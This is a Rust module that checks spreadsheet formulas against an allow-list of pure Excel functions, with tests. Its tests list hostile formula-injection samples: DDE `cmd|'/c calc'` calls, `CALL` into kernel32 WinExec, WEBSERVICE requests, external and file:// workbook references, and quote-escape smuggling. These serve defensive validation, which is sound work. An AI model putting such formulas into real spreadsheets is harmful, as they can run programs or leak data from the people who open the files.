//! Allowed formulas: those that only calculate with cells of their own workbook.
//!
//! A formula is split into tokens, each of which must be known. A formula that opens another file, another program or a
//! network address (`WEBSERVICE`, `[book]sheet!A1`, `cmd|'/c …'!A0`) is refused because it is not on the list of allowed
//! ones, not because it is on a list of forbidden ones. Knows cells only by their notation.

use std::borrow::Cow;
use std::collections::BTreeSet;

use super::names::DEFINED;

/// Most nested brackets, as in Excel.
const MAX_NESTING: usize = 64;

/// Prefixes of functions that are newer than the file format, in their order.
const PREFIXES: [&str; 2] = ["_XLFN.", "_XLWS."];

/// Refuses a formula that could reach outside of its workbook, or that Excel would not read.
///
/// `sheets` are the names of the workbook's sheets in lower case. The message names the cause and the way out.
pub(super) fn check(expression: &str, sheets: &BTreeSet<String>) -> Result<(), String> {
    if let Some(escape) = escape_of_the_format(expression) {
        return Err(format!(
            "expected a formula without `{escape}`, as the file format reads it as another character"
        ));
    }
    let text = expression.trim().trim_start_matches('=');
    let mut reader = Reader { rest: text, sheets, open: Vec::new(), before: Before::Nothing };
    while reader.token()? {}
    match reader.open.last() {
        None => Ok(()),
        Some(open) => Err(format!("expected a formula with a closing `{open}`")),
    }
}

/// Returns a formula as the file stores it, with prefixes for functions that are newer than the format, and `true` if one of
/// them returns several cells, which the file must state with the cell. Keeps existing prefixes.
pub(super) fn stored(expression: &str) -> (Cow<'_, str>, bool) {
    let text = expression.trim_start();
    let text = text.strip_prefix('=').unwrap_or(text);
    let is_escaped = text.contains("_xlfn.");
    let (mut out, mut copied, mut spills) = (String::new(), 0, false);
    let (mut in_text, mut name) = (false, None);
    for (at, byte) in text.bytes().enumerate() {
        in_text ^= byte == b'"';
        let is_name =
            !in_text && (byte.is_ascii_uppercase() || byte.is_ascii_digit() || byte == b'.');
        match (is_name, name) {
            (true, None) => name = Some(at),
            (false, Some(start)) => {
                let function = &text[start..at];
                if byte == b'(' && FUTURE.binary_search(&function).is_ok() {
                    spills |= DYNAMIC.binary_search(&function).is_ok();
                    if !is_escaped {
                        out.push_str(&text[copied..start]);
                        out.push_str(if matches!(function, "FILTER" | "SORT") {
                            "_xlfn._xlws."
                        } else {
                            "_xlfn."
                        });
                        copied = start;
                    }
                }
                name = None;
            }
            _ => {}
        }
    }
    if copied == 0 && out.is_empty() {
        return (Cow::Borrowed(text), spills);
    }
    out.push_str(&text[copied..]);
    (Cow::Owned(out), spills)
}

/// Finds an escape such as `_x0022_`, which stands for a quotation mark: text behind it would be outside of the string that
/// seems to contain it.
fn escape_of_the_format(text: &str) -> Option<&str> {
    let is_escape = |part: &[u8]| matches!(part, [b'_', b'x' | b'X', digits @ .., b'_'] if digits.iter().all(u8::is_ascii_hexdigit));
    let at = text.as_bytes().windows(7).position(is_escape)?;
    text.get(at..at + 7)
}

/// Context before the current position.
#[derive(Clone, Copy, PartialEq)]
enum Before {
    Nothing,
    /// A colon, after which a name of letters is a column.
    Colon,
}

struct Reader<'a> {
    rest: &'a str,
    sheets: &'a BTreeSet<String>,
    /// Closing brackets for the open ones.
    open: Vec<char>,
    before: Before,
}

impl<'a> Reader<'a> {
    /// Reads one token. Returns `false` at the end.
    fn token(&mut self) -> Result<bool, String> {
        let before = std::mem::replace(&mut self.before, Before::Nothing);
        let Some(c) = self.rest.chars().next() else { return Ok(false) };
        match c {
            ' ' | '\n' | '\r' | '\t' => {
                self.skip(1);
                self.before = before;
            }
            '"' => self.quoted('"').map(drop)?,
            '\'' => {
                let name = self.quoted('\'')?;
                self.sheet(&name)?;
            }
            '#' => self.error_value()?,
            '(' => self.open(')')?,
            '{' if !self.open.contains(&'}') => self.open('}')?,
            ')' | '}' if self.open.pop() == Some(c) => self.skip(1),
            ';' if self.open.last() != Some(&'}') => {
                return Err("expected `,` between arguments, got `;`".into());
            }
            '+' | '-' | '*' | '/' | '^' | '&' | '=' | '<' | '>' | '%' | ',' | ';' | '@' => {
                self.skip(1);
            }
            ':' => {
                self.skip(1);
                self.before = Before::Colon;
            }
            '.' | '0'..='9' => self.number(before),
            '$' | '_' => self.name(before)?,
            c if c.is_alphabetic() => self.name(before)?,
            '|' => return Err(format!("{OUTSIDE}, and `|` calls another program")),
            '[' | ']' => {
                return Err(format!("{OUTSIDE}, and `{c}` names another workbook or a table"));
            }
            c => {
                return Err(format!(
                    "expected a formula in Excel's English notation, got `{}`",
                    c.escape_debug()
                ));
            }
        }
        Ok(true)
    }

    fn skip(&mut self, bytes: usize) {
        self.rest = self.rest.get(bytes..).unwrap_or_default();
    }

    fn open(&mut self, close: char) -> Result<(), String> {
        if self.open.len() >= MAX_NESTING {
            return Err(format!("expected a formula of at most {MAX_NESTING} levels of brackets"));
        }
        self.open.push(close);
        self.skip(1);
        Ok(())
    }

    /// Reads a string or a quoted name, in which quotation marks are doubled.
    fn quoted(&mut self, mark: char) -> Result<String, String> {
        let mut content = String::new();
        let mut chars = self.rest.char_indices().skip(1).peekable();
        while let Some((at, c)) = chars.next() {
            if c != mark {
                content.push(c);
            } else if chars.next_if(|(_, next)| *next == mark).is_some() {
                content.push(mark);
            } else {
                self.skip(at + 1);
                return Ok(content);
            }
        }
        Err(format!("expected a formula with a closing `{mark}`"))
    }

    /// Reads the `!` behind the name of a sheet, which must be in this workbook, or behind two such names with a colon.
    fn sheet(&mut self, name: &str) -> Result<(), String> {
        if !self.rest.starts_with('!') {
            let name = mitt_base::text::cut_bytes(name, 80);
            return Err(format!("expected `!` behind the name `{name}` of a sheet"));
        }
        // Names of sheets contain no colons.
        match name.split(':').find(|part| !self.sheets.contains(&part.to_lowercase())) {
            None => self.skip(1),
            Some(part) => {
                let part = mitt_base::text::cut_bytes(part, 80).escape_debug();
                return Err(format!("{OUTSIDE}, and it has no sheet `{part}`"));
            }
        }
        Ok(())
    }

    fn error_value(&mut self) -> Result<(), String> {
        const VALUES: [&str; 7] =
            ["#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"];
        let starts = |value: &&&str| {
            self.rest.get(..value.len()).is_some_and(|start| start.eq_ignore_ascii_case(value))
        };
        match VALUES.iter().find(starts) {
            Some(value) => {
                self.skip(value.len());
                Ok(())
            }
            None => Err("expected an error value such as `#N/A` behind `#`".into()),
        }
    }

    /// Reads a number or a row number. A sign of an exponent belongs to it.
    fn number(&mut self, before: Before) {
        let digits =
            |text: &str| text.find(|c: char| !c.is_ascii_digit() && c != '.').unwrap_or(text.len());
        self.skip(digits(self.rest));
        if before == Before::Colon {
            return;
        }
        if let Some(exponent) = self.rest.strip_prefix(['e', 'E']) {
            let unsigned = exponent.strip_prefix(['+', '-']).unwrap_or(exponent);
            if unsigned.starts_with(|c: char| c.is_ascii_digit()) {
                self.rest = unsigned;
                self.skip(digits(unsigned));
            }
        }
    }

    /// Reads a function, a reference, a sheet, or a logical value.
    fn name(&mut self, before: Before) -> Result<(), String> {
        let is_part = |c: char| c.is_alphanumeric() || matches!(c, '_' | '.' | '$' | '\\' | '?');
        let end = self.rest.find(|c| !is_part(c)).unwrap_or(self.rest.len());
        let (name, rest) = self.rest.split_at(end);
        let shown = mitt_base::text::cut_bytes(name, 80);
        if rest.starts_with('!') {
            self.rest = rest;
            return self.sheet(name);
        }
        // Excel removes blanks between a function and its bracket.
        if rest.trim_start().starts_with('(') {
            if !is_allowed(name) {
                return Err(format!(
                    "expected functions that only calculate, got `{shown}`; write its value instead of a formula"
                ));
            }
        } else {
            let is_followed = rest.trim_start().starts_with(':');
            let is_known = is_reference(name, is_followed || before == Before::Colon)
                || self.sheets.contains(&format!("{DEFINED}{}", name.to_lowercase()))
                || ["TRUE", "FALSE"].iter().any(|value| name.eq_ignore_ascii_case(value))
                // The first of two sheets: `Q1:Q4!A1`.
                || is_followed && self.sheets.contains(&name.to_lowercase());
            if !is_known {
                return Err(format!("{OUTSIDE}, and it has no name `{shown}`"));
            }
        }
        self.rest = rest;
        Ok(())
    }
}

/// Beginning of all messages about something outside of the workbook.
const OUTSIDE: &str = "expected a formula over cells of this workbook";

fn is_allowed(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    let bare = PREFIXES
        .iter()
        .fold(upper.as_str(), |name, prefix| name.strip_prefix(prefix).unwrap_or(name));
    FUNCTIONS.binary_search(&bare).is_ok()
}

/// Returns `true` for `A1`, `$A$1`, and in a range also `A` and `$1`.
fn is_reference(name: &str, is_range: bool) -> bool {
    let rest = name.strip_prefix('$').unwrap_or(name);
    let letters = rest.find(|c: char| !c.is_ascii_alphabetic()).unwrap_or(rest.len());
    let (column, row) = rest.split_at(letters);
    let digits = row.strip_prefix('$').unwrap_or(row);
    let is_column = (1..=3).contains(&column.len());
    let is_row = (1..=7).contains(&digits.len()) && digits.bytes().all(|b| b.is_ascii_digit());
    match (column, row) {
        ("", _) => is_range && is_row,
        (_, "") => is_range && is_column,
        _ => is_column && is_row,
    }
}

/// Functions of Excel that calculate with their arguments and have no other effect, sorted. Left out are functions that
/// fetch (`WEBSERVICE`, `IMAGE`, `RTD`, `STOCKHISTORY`, `CUBE…`, `SQL.REQUEST`, `DDE`), open (`HYPERLINK`; use link cells),
/// run (`CALL`, `REGISTER.ID`, `EXEC`, `PY`), reveal facts about the machine or the file (`INFO`, `CELL`), take text as a
/// reference (`INDIRECT`, which can name another workbook), or define names (`LET`, `LAMBDA`).
#[rustfmt::skip]
const FUNCTIONS: [&str; 483] = [
    "ABS", "ACCRINT", "ACCRINTM", "ACOS", "ACOSH", "ACOT", "ACOTH", "ADDRESS", "AGGREGATE", "AMORDEGRC", "AMORLINC",
    "AND", "ARABIC", "ARRAYTOTEXT", "ASC", "ASIN", "ASINH", "ATAN", "ATAN2", "ATANH", "AVEDEV", "AVERAGE", "AVERAGEA",
    "AVERAGEIF", "AVERAGEIFS", "BAHTTEXT", "BASE", "BESSELI", "BESSELJ", "BESSELK", "BESSELY", "BETA.DIST",
    "BETA.INV", "BETADIST", "BETAINV", "BIN2DEC", "BIN2HEX", "BIN2OCT", "BINOM.DIST", "BINOM.DIST.RANGE", "BINOM.INV",
    "BINOMDIST", "BITAND", "BITLSHIFT", "BITOR", "BITRSHIFT", "BITXOR", "CEILING", "CEILING.MATH", "CEILING.PRECISE",
    "CHAR", "CHIDIST", "CHIINV", "CHISQ.DIST", "CHISQ.DIST.RT", "CHISQ.INV", "CHISQ.INV.RT", "CHISQ.TEST", "CHITEST",
    "CHOOSE", "CHOOSECOLS", "CHOOSEROWS", "CLEAN", "CODE", "COLUMN", "COLUMNS", "COMBIN", "COMBINA", "COMPLEX",
    "CONCAT", "CONCATENATE", "CONFIDENCE", "CONFIDENCE.NORM", "CONFIDENCE.T", "CONVERT", "CORREL", "COS", "COSH",
    "COT", "COTH", "COUNT", "COUNTA", "COUNTBLANK", "COUNTIF", "COUNTIFS", "COUPDAYBS", "COUPDAYS", "COUPDAYSNC",
    "COUPNCD", "COUPNUM", "COUPPCD", "COVAR", "COVARIANCE.P", "COVARIANCE.S", "CRITBINOM", "CSC", "CSCH", "CUMIPMT",
    "CUMPRINC", "DATE", "DATEDIF", "DATEVALUE", "DAVERAGE", "DAY", "DAYS", "DAYS360", "DB", "DBCS", "DCOUNT",
    "DCOUNTA", "DDB", "DEC2BIN", "DEC2HEX", "DEC2OCT", "DECIMAL", "DEGREES", "DELTA", "DEVSQ", "DGET", "DISC", "DMAX",
    "DMIN", "DOLLAR", "DOLLARDE", "DOLLARFR", "DPRODUCT", "DROP", "DSTDEV", "DSTDEVP", "DSUM", "DURATION", "DVAR",
    "DVARP", "ECMA.CEILING", "EDATE", "EFFECT", "EOMONTH", "ERF", "ERF.PRECISE", "ERFC", "ERFC.PRECISE", "ERROR.TYPE",
    "EVEN", "EXACT", "EXP", "EXPAND", "EXPON.DIST", "EXPONDIST", "F.DIST", "F.DIST.RT", "F.INV", "F.INV.RT", "F.TEST",
    "FACT", "FACTDOUBLE", "FALSE", "FDIST", "FILTER", "FIND", "FINDB", "FINV", "FISHER", "FISHERINV", "FIXED",
    "FLOOR", "FLOOR.MATH", "FLOOR.PRECISE", "FORECAST", "FORECAST.ETS", "FORECAST.ETS.CONFINT",
    "FORECAST.ETS.SEASONALITY", "FORECAST.ETS.STAT", "FORECAST.LINEAR", "FORMULATEXT", "FREQUENCY", "FTEST", "FV",
    "FVSCHEDULE", "GAMMA", "GAMMA.DIST", "GAMMA.INV", "GAMMADIST", "GAMMAINV", "GAMMALN", "GAMMALN.PRECISE", "GAUSS",
    "GCD", "GEOMEAN", "GESTEP", "GROWTH", "HARMEAN", "HEX2BIN", "HEX2DEC", "HEX2OCT", "HLOOKUP", "HOUR", "HSTACK",
    "HYPGEOM.DIST", "HYPGEOMDIST", "IF", "IFERROR", "IFNA", "IFS", "IMABS", "IMAGINARY", "IMARGUMENT", "IMCONJUGATE",
    "IMCOS", "IMCOSH", "IMCOT", "IMCSC", "IMCSCH", "IMDIV", "IMEXP", "IMLN", "IMLOG10", "IMLOG2", "IMPOWER",
    "IMPRODUCT", "IMREAL", "IMSEC", "IMSECH", "IMSIN", "IMSINH", "IMSQRT", "IMSUB", "IMSUM", "IMTAN", "INDEX", "INT",
    "INTERCEPT", "INTRATE", "IPMT", "IRR", "ISBLANK", "ISERR", "ISERROR", "ISEVEN", "ISFORMULA", "ISLOGICAL", "ISNA",
    "ISNONTEXT", "ISNUMBER", "ISO.CEILING", "ISODD", "ISOWEEKNUM", "ISPMT", "ISREF", "ISTEXT", "JIS", "KURT", "LARGE",
    "LCM", "LEFT", "LEFTB", "LEN", "LENB", "LINEST", "LN", "LOG", "LOG10", "LOGEST", "LOGINV", "LOGNORM.DIST",
    "LOGNORM.INV", "LOGNORMDIST", "LOOKUP", "LOWER", "MATCH", "MAX", "MAXA", "MAXIFS", "MDETERM", "MDURATION",
    "MEDIAN", "MID", "MIDB", "MIN", "MINA", "MINIFS", "MINUTE", "MINVERSE", "MIRR", "MMULT", "MOD", "MODE",
    "MODE.MULT", "MODE.SNGL", "MONTH", "MROUND", "MULTINOMIAL", "MUNIT", "N", "NA", "NEGBINOM.DIST", "NEGBINOMDIST",
    "NETWORKDAYS", "NETWORKDAYS.INTL", "NOMINAL", "NORM.DIST", "NORM.INV", "NORM.S.DIST", "NORM.S.INV", "NORMDIST",
    "NORMINV", "NORMSDIST", "NORMSINV", "NOT", "NOW", "NPER", "NPV", "NUMBERVALUE", "OCT2BIN", "OCT2DEC", "OCT2HEX",
    "ODD", "ODDFPRICE", "ODDFYIELD", "ODDLPRICE", "ODDLYIELD", "OFFSET", "OR", "PDURATION", "PEARSON", "PERCENTILE",
    "PERCENTILE.EXC", "PERCENTILE.INC", "PERCENTOF", "PERCENTRANK", "PERCENTRANK.EXC", "PERCENTRANK.INC", "PERMUT",
    "PERMUTATIONA", "PHI", "PI", "PMT", "POISSON", "POISSON.DIST", "POWER", "PPMT", "PRICE", "PRICEDISC", "PRICEMAT",
    "PROB", "PRODUCT", "PROPER", "PV", "QUARTILE", "QUARTILE.EXC", "QUARTILE.INC", "QUOTIENT", "RADIANS", "RAND",
    "RANDARRAY", "RANDBETWEEN", "RANK", "RANK.AVG", "RANK.EQ", "RATE", "RECEIVED", "REPLACE", "REPLACEB", "REPT",
    "RIGHT", "RIGHTB", "ROMAN", "ROUND", "ROUNDDOWN", "ROUNDUP", "ROW", "ROWS", "RRI", "RSQ", "SEARCH", "SEARCHB",
    "SEC", "SECH", "SECOND", "SEQUENCE", "SERIESSUM", "SHEET", "SHEETS", "SIGN", "SIN", "SINGLE", "SINH", "SKEW",
    "SKEW.P", "SLN", "SLOPE", "SMALL", "SORT", "SORTBY", "SQRT", "SQRTPI", "STANDARDIZE", "STDEV", "STDEV.P",
    "STDEV.S", "STDEVA", "STDEVP", "STDEVPA", "STEYX", "SUBSTITUTE", "SUBTOTAL", "SUM", "SUMIF", "SUMIFS",
    "SUMPRODUCT", "SUMSQ", "SUMX2MY2", "SUMX2PY2", "SUMXMY2", "SWITCH", "SYD", "T", "T.DIST", "T.DIST.2T",
    "T.DIST.RT", "T.INV", "T.INV.2T", "T.TEST", "TAKE", "TAN", "TANH", "TBILLEQ", "TBILLPRICE", "TBILLYIELD", "TDIST",
    "TEXT", "TEXTAFTER", "TEXTBEFORE", "TEXTJOIN", "TEXTSPLIT", "TIME", "TIMEVALUE", "TINV", "TOCOL", "TODAY",
    "TOROW", "TRANSPOSE", "TREND", "TRIM", "TRIMMEAN", "TRUE", "TRUNC", "TTEST", "TYPE", "UNICHAR", "UNICODE",
    "UNIQUE", "UPPER", "VALUE", "VALUETOTEXT", "VAR", "VAR.P", "VAR.S", "VARA", "VARP", "VARPA", "VDB", "VLOOKUP",
    "VSTACK", "WEEKDAY", "WEEKNUM", "WEIBULL", "WEIBULL.DIST", "WORKDAY", "WORKDAY.INTL", "WRAPCOLS", "WRAPROWS",
    "XIRR", "XLOOKUP", "XMATCH", "XNPV", "XOR", "YEAR", "YEARFRAC", "YIELD", "YIELDDISC", "YIELDMAT", "Z.TEST",
    "ZTEST",
];

/// Functions that are newer than the file format, sorted. Excel writes them with a prefix.
#[rustfmt::skip]
const FUTURE: [&str; 158] = [
    "ACOT", "ACOTH", "AGGREGATE", "ANCHORARRAY", "ARABIC", "ARRAYTOTEXT", "BASE", "BETA.DIST", "BETA.INV",
    "BINOM.DIST", "BINOM.DIST.RANGE", "BINOM.INV", "BITAND", "BITLSHIFT", "BITOR", "BITRSHIFT", "BITXOR", "BYCOL",
    "BYROW", "CEILING.MATH", "CEILING.PRECISE", "CHISQ.DIST", "CHISQ.DIST.RT", "CHISQ.INV", "CHISQ.INV.RT",
    "CHISQ.TEST", "CHOOSECOLS", "CHOOSEROWS", "COMBINA", "CONCAT", "CONFIDENCE.NORM", "CONFIDENCE.T", "COT", "COTH",
    "COVARIANCE.P", "COVARIANCE.S", "CSC", "CSCH", "DAYS", "DECIMAL", "DROP", "ERF.PRECISE", "ERFC.PRECISE", "EXPAND",
    "EXPON.DIST", "F.DIST", "F.DIST.RT", "F.INV", "F.INV.RT", "F.TEST", "FIELDVALUE", "FILTER", "FILTERXML",
    "FLOOR.MATH", "FLOOR.PRECISE", "FORECAST.ETS", "FORECAST.ETS.CONFINT", "FORECAST.ETS.SEASONALITY",
    "FORECAST.ETS.STAT", "FORECAST.LINEAR", "FORMULATEXT", "GAMMA", "GAMMA.DIST", "GAMMA.INV", "GAMMALN.PRECISE",
    "GAUSS", "HSTACK", "HYPGEOM.DIST", "IFNA", "IFS", "IMAGE", "IMCOSH", "IMCOT", "IMCSC", "IMCSCH", "IMSEC",
    "IMSECH", "IMSINH", "IMTAN", "ISFORMULA", "ISOMITTED", "ISOWEEKNUM", "LAMBDA", "LET", "LOGNORM.DIST",
    "LOGNORM.INV", "MAKEARRAY", "MAP", "MAXIFS", "MINIFS", "MODE.MULT", "MODE.SNGL", "MUNIT", "NEGBINOM.DIST",
    "NORM.DIST", "NORM.INV", "NORM.S.DIST", "NORM.S.INV", "NUMBERVALUE", "PDURATION", "PERCENTILE.EXC",
    "PERCENTILE.INC", "PERCENTRANK.EXC", "PERCENTRANK.INC", "PERMUTATIONA", "PHI", "POISSON.DIST", "PQSOURCE", "PY",
    "QUARTILE.EXC", "QUARTILE.INC", "QUERYSTRING", "RANDARRAY", "RANK.AVG", "RANK.EQ", "REDUCE", "RRI", "SCAN", "SEC",
    "SECH", "SEQUENCE", "SHEET", "SHEETS", "SINGLE", "SKEW.P", "SORT", "SORTBY", "STDEV.P", "STDEV.S", "SWITCH",
    "T.DIST", "T.DIST.2T", "T.DIST.RT", "T.INV", "T.INV.2T", "T.TEST", "TAKE", "TEXTAFTER", "TEXTBEFORE", "TEXTJOIN",
    "TEXTSPLIT", "TOCOL", "TOROW", "UNICHAR", "UNICODE", "UNIQUE", "VALUETOTEXT", "VAR.P", "VAR.S", "VSTACK",
    "WEBSERVICE", "WEIBULL.DIST", "WRAPCOLS", "WRAPROWS", "XLOOKUP", "XMATCH", "XOR", "Z.TEST",
];

/// Those of them that may return several cells, sorted.
#[rustfmt::skip]
const DYNAMIC: [&str; 30] = [
    "ANCHORARRAY", "BYCOL", "BYROW", "CHOOSECOLS", "CHOOSEROWS", "DROP", "EXPAND", "FILTER", "HSTACK", "LAMBDA",
    "MAKEARRAY", "MAP", "PY", "RANDARRAY", "REDUCE", "SCAN", "SEQUENCE", "SINGLE", "SORT", "SORTBY", "SWITCH", "TAKE",
    "TEXTSPLIT", "TOCOL", "TOROW", "UNIQUE", "VSTACK", "WRAPCOLS", "WRAPROWS", "XLOOKUP",
];

#[cfg(test)]
mod tests {
    use super::*;

    fn problem(expression: &str) -> String {
        let sheets = ["数据", "q1", "q4", "my sheet", "it's"].map(String::from).into();
        check(expression, &sheets).err().unwrap_or_default()
    }

    #[test]
    fn the_list_is_sorted() {
        assert!(FUNCTIONS.is_sorted_by(|a, b| a < b));
        assert!(FUTURE.is_sorted_by(|a, b| a < b) && DYNAMIC.is_sorted_by(|a, b| a < b));
    }

    /// The library writes charts and links; a formula must have the same form there as in our rows.
    #[test]
    fn formulas_are_stored_as_the_library_stores_them() {
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        let more = [
            "=\"SORT(\"&SORT(A1:A3)",
            "=_xlfn.CONCAT(A1,\"<\")",
            "=sort(A1)",
            "=1+XLOOKUP(1,A:A,B:B)*IFS(A1,2)",
            "=A1",
        ];
        let all: Vec<String> = FUNCTIONS
            .iter()
            .map(|name| format!("={name}(A1)"))
            .chain(more.map(String::from))
            .collect();
        for (row, formula) in all.iter().enumerate() {
            sheet.write_formula(u32::try_from(row).unwrap(), 0, formula.as_str()).unwrap();
        }
        let bytes = book.save_to_buffer().unwrap();
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        let mut xml = String::new();
        let mut part = zip.by_name("xl/worksheets/sheet1.xml").unwrap();
        std::io::Read::read_to_string(&mut part, &mut xml).unwrap();
        for (cell, formula) in xml.split("<c ").skip(1).zip(&all) {
            let (text, spills) = stored(formula);
            let text = text.replace('&', "&amp;").replace('<', "&lt;");
            assert!(cell.contains(&format!(">{text}</f>")), "{formula}: {cell}");
            assert_eq!(cell.contains("cm=\"1\""), spills, "{formula}: {cell}");
        }
        assert_eq!(xml.matches("<c ").count(), all.len());
    }

    #[test]
    fn formulas_that_only_calculate() {
        for formula in [
            "=SUM(A1:B2)",
            "B2*C2",
            "=SUBTOTAL(109,$B$2:B14)",
            "=IF(A1>0,\"a|b [x] WEBSERVICE(\"\"http://x\"\")\",'My Sheet'!B2)",
            "=数据!A1+Q1!A1+'it''s'!$C$3",
            "=SUM(Q1:Q4!A1)+SUM('Q1:Q4'!A1)",
            "=SUM(A:A)/SUM($1:3)*-1.5e+3%",
            "=_xlfn._xlws.SORT(A1:A9)&_xlfn.CONCAT(A1, \" \")",
            "=SUMPRODUCT((A1:A9=\"x\")*{1,2;3,4})",
            "=IFERROR(@A1/B1,#N/A)+TRUE",
            "= vlookup ( A1 , B:C , 2 , false )",
            "=STDEV.S(A1:A9)\n+1",
            "=-(A1)",
        ] {
            assert_eq!(problem(formula), "", "{formula}");
        }
    }

    #[test]
    fn formulas_that_reach_outside() {
        for formula in [
            "=WEBSERVICE(\"http://x/\"&A1)",
            "=webservice (\"http://x\")",
            "=_xlfn.WEBSERVICE(\"http://x\")",
            "=_XLFN._xlws.WebService(\"http://x\")",
            "=@WEBSERVICE(\"http://x\")",
            "={1,2}+SUM(WEBSERVICE(\"x\"))",
            "=ＷEBSERVICE(\"http://x\")",
            "=WEB\u{200B}SERVICE(\"http://x\")",
            "=WEB\u{0}SERVICE(\"http://x\")",
            "=\"_x0022_&WEBSERVICE(_x0022_http://x_x0022_)&_x0022_\"",
            "=cmd|'/c calc'!A0",
            "=cmd |' /c calc'!A0",
            "=A1+'cmd'|'/c calc'!A0",
            "=DDE(\"cmd\";\"/c calc\";\"x\")",
            "=+HYPERLINK(\"http://x\",\"y\")",
            "=[book.xlsx]Sheet1!A1",
            "='[book.xlsx]数据'!A1",
            "='C:\\x\\[book.xlsx]数据'!A1",
            "='\\\\server\\share\\[b.xlsx]数据'!A1",
            "='file:///etc/passwd'#$数据.A1",
            "='http://x/[b.xlsx]数据'!A1",
            "=other!A1",
            "=Table1[Column]",
            "=[1]!name",
            "=INDIRECT(\"[b]数据!A1\")",
            "=RTD(\"x\",,\"y\")",
            "=CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
            "=REGISTER.ID(\"a\",\"b\")",
            "=EXEC(\"calc\")",
            "=IMAGE(\"http://x\")",
            "=FILTERXML(A1,\"//x\")",
            "=CELL(\"filename\")",
            "=INFO(\"directory\")",
            "=CUBEVALUE(\"c\",\"m\")",
            "=STOCKHISTORY(\"x\",1)",
            "=PY(0)",
            "=LAMBDA(x,x)(1)",
            "=_xlnm.Print_Area",
            "=evil",
            "=SUM(evil)",
            "=A1#",
            "=A1;B1",
            "=(1",
            "=1)",
            "={1",
            "=\"x",
            "='x",
            "=SUM(A1}",
            "={{1}}",
        ] {
            assert_ne!(problem(formula), "", "{formula}");
        }
        insta::assert_snapshot!(problem("=1+_xlfn.WEBSERVICE(A1)"), @"expected functions that only calculate, got `_xlfn.WEBSERVICE`; write its value instead of a formula");
        insta::assert_snapshot!(problem("=cmd|'/c calc'!A0"), @"expected a formula over cells of this workbook, and it has no name `cmd`");
        insta::assert_snapshot!(problem("=[b.xlsx]x!A1"), @"expected a formula over cells of this workbook, and `[` names another workbook or a table");
    }

    #[test]
    fn brackets_are_bounded() {
        let nested = |levels: usize| format!("={}1{}", "(".repeat(levels), ")".repeat(levels));
        assert_eq!(problem(&nested(64)), "");
        assert_ne!(problem(&nested(65)), "");
    }
}
